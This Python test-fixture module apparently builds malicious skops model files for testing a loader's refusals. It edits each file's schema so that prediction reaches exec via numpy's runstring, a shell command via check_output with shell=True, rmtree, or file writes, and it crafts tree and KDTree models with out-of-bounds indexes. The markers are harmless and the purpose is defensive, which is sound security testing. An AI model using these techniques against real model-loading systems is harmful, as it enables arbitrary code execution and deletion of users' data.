"""Model files written as an attacker would: real skops files of a Pipeline of FunctionTransformers
whose schema.json is edited to name a function that scikit-learn, NumPy or SciPy re-export.

Every step of the pipeline is a FunctionTransformer, called as func(X, **kw_args) by predict:
  1. numpy.full_like(X, fill_value=PAYLOAD, shape=…, dtype="O")  the payload as a constant array,
  2. numpy.max(...)                                               that array's one string (for (a), (c), (d)),
  3. the attack function, edited in over the placeholder numpy.negative,
then a fitted LogisticRegression, which is never reached. Nothing but step 3's name is edited,
so every other name in the file is one that skops or a module-prefix policy trusts.
The f2py file instead names the module `numpy.f2py.__main__`, whose import runs f2py's CLI.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Callable

import numpy as np
import skops.io as sio
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

_PLACEHOLDER = ("numpy", "negative")
#: The one helper the files need beyond the built-in policy. Tests trust it (as a project may,
#: in params.yaml), so that the only name left to refuse in each file is the attack itself.
HELPER = "numpy.full_like"


def _edited(steps: list[tuple[str, FunctionTransformer]], module: str, name: str) -> bytes:
    rng = np.random.default_rng(0)
    X = rng.normal(size=(20, 3))
    final = LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))
    data = sio.dumps(Pipeline(steps + [("model", final)]))
    source = zipfile.ZipFile(io.BytesIO(data))
    schema = json.loads(source.read("schema.json"))
    replaced = 0
    stack = [schema]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if (node.get("__module__"), node.get("__class__")) == _PLACEHOLDER and node.get("__loader__") == "FunctionNode":
                node["__module__"], node["__class__"] = module, name
                replaced += 1
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    assert replaced == 1, "the placeholder function was not found in the schema"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, json.dumps(schema) if info.filename == "schema.json" else source.read(info))
    return out.getvalue()


def _constant(payload: str, shape: tuple[int, ...]) -> FunctionTransformer:
    return FunctionTransformer(np.full_like, kw_args={"fill_value": payload, "shape": list(shape), "dtype": "O"})


def exec_python(marker: Path) -> bytes:
    """(a) Arbitrary Python, through numpy.testing's runstring(astr, dict), which exec()s astr."""
    code = f"open({str(marker)!r}, 'w').write('pwned by exec')"
    steps = [("const", _constant(code, ())), ("pick", FunctionTransformer(np.max)),
             ("attack", FunctionTransformer(np.negative, kw_args={"dict": {}}))]
    return _edited(steps, "numpy.testing._private.utils", "runstring")


def shell_command(marker: Path) -> bytes:
    """(b) A shell command, through sklearn.utils._testing's alias of subprocess.check_output,
    called with shell=True on a one-element array holding the command line."""
    steps = [("const", _constant(f"touch {marker}", (1,))),
             ("attack", FunctionTransformer(np.negative, kw_args={"shell": True}))]
    return _edited(steps, "sklearn.utils._testing", "check_output")


def delete_directory(victim: Path) -> bytes:
    """(c) A directory deleted, through scipy._lib._tmpdirs' alias of shutil.rmtree."""
    steps = [("const", _constant(str(victim), ())), ("pick", FunctionTransformer(np.max)),
             ("attack", FunctionTransformer(np.negative))]
    return _edited(steps, "scipy._lib._tmpdirs", "rmtree")


def write_file(target: Path) -> bytes:
    """(d) A file written, through numpy.lib._datasource's alias of io.open, mode 'w'."""
    steps = [("const", _constant(str(target), ())), ("pick", FunctionTransformer(np.max)),
             ("attack", FunctionTransformer(np.negative, kw_args={"mode": "w"}))]
    return _edited(steps, "numpy.lib._datasource", "_open")


def f2py_main(_: Path) -> bytes:
    """(e) A function of the module numpy.f2py.__main__: importing it runs f2py's command line,
    which exits the process."""
    steps = [("attack", FunctionTransformer(np.negative))]
    return _edited(steps, "numpy.f2py.__main__", "main")


#: kind → (builder, the name the refusal must quote)
KINDS: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "exec": (exec_python, "numpy.testing._private.utils.runstring"),
    "shell": (shell_command, "sklearn.utils._testing.check_output"),
    "rmtree": (delete_directory, "scipy._lib._tmpdirs.rmtree"),
    "write": (write_file, "numpy.lib._datasource._open"),
    "f2py": (f2py_main, "numpy.f2py.__main__.main"),
}


class Evidence:
    """The paths each attack touches under `root`, and whether any of them did."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.exec_marker = root / "exec-ran"
        self.shell_marker = root / "shell-ran"
        self.victim = root / "victim"
        self.written = root / "written-by-model"
        self.victim.mkdir(parents=True, exist_ok=True)
        (self.victim / "keep.txt").write_text("precious", encoding="utf-8")

    def target(self, kind: str) -> Path:
        return {"exec": self.exec_marker, "shell": self.shell_marker, "rmtree": self.victim,
                "write": self.written, "f2py": self.root / "unused"}[kind]

    def build(self, kind: str) -> bytes:
        return KINDS[kind][0](self.target(kind))

    def harm(self) -> list[str]:
        """What the attacks did, if anything."""
        done = []
        if self.exec_marker.exists():
            done.append("exec ran Python")
        if self.shell_marker.exists():
            done.append("a shell command ran")
        if not (self.victim / "keep.txt").exists():
            done.append("a directory was deleted")
        if self.written.exists():
            done.append("a file was written")
        return done


# --- trusted types, edited contents ----------------------------------------------------------------

_FAR = 2**31 - 5  # an index far outside any array of the model


def _fitted(estimator):
    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 3))
    return estimator.fit(X, (X[:, 0] > 0).astype(int)), X


def tree_out_of_bounds() -> bytes:
    """A random forest whose first tree's root points to children far beyond its nodes."""
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.tree._tree import Tree

    forest, _ = _fitted(RandomForestClassifier(n_estimators=2, max_depth=3, random_state=0))
    tree = forest.estimators_[0].tree_
    state = tree.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = _FAR
    edited = Tree(*tree.__reduce__()[1])
    edited.__setstate__({**state, "nodes": nodes})
    forest.estimators_[0].tree_ = edited
    return sio.dumps(forest)


def predictor_out_of_bounds() -> bytes:
    """A HistGradientBoosting model whose first predictor's root points far beyond its nodes."""
    from sklearn.ensemble import HistGradientBoostingClassifier

    model, _ = _fitted(HistGradientBoostingClassifier(max_iter=2))
    nodes = model._predictors[0][0].nodes
    nodes["left"][0] = nodes["right"][0] = _FAR
    return sio.dumps(model)


def neighbours_out_of_bounds() -> bytes:
    """A k-nearest-neighbours model whose KDTree indexes a sample far beyond its data."""
    from sklearn.neighbors import KNeighborsClassifier

    model, _ = _fitted(KNeighborsClassifier(algorithm="kd_tree"))
    model._tree.get_arrays()[1][:] = _FAR  # the sample index array, in place
    return sio.dumps(model)


#: kind → (builder, the type the refusal names)
EDITED = {
    "tree": (tree_out_of_bounds, "sklearn.tree._tree.Tree"),
    "predictor": (predictor_out_of_bounds, "sklearn.ensemble._hist_gradient_boosting.predictor.TreePredictor"),
    "kdtree": (neighbours_out_of_bounds, "sklearn.neighbors._kd_tree.KDTree"),
}
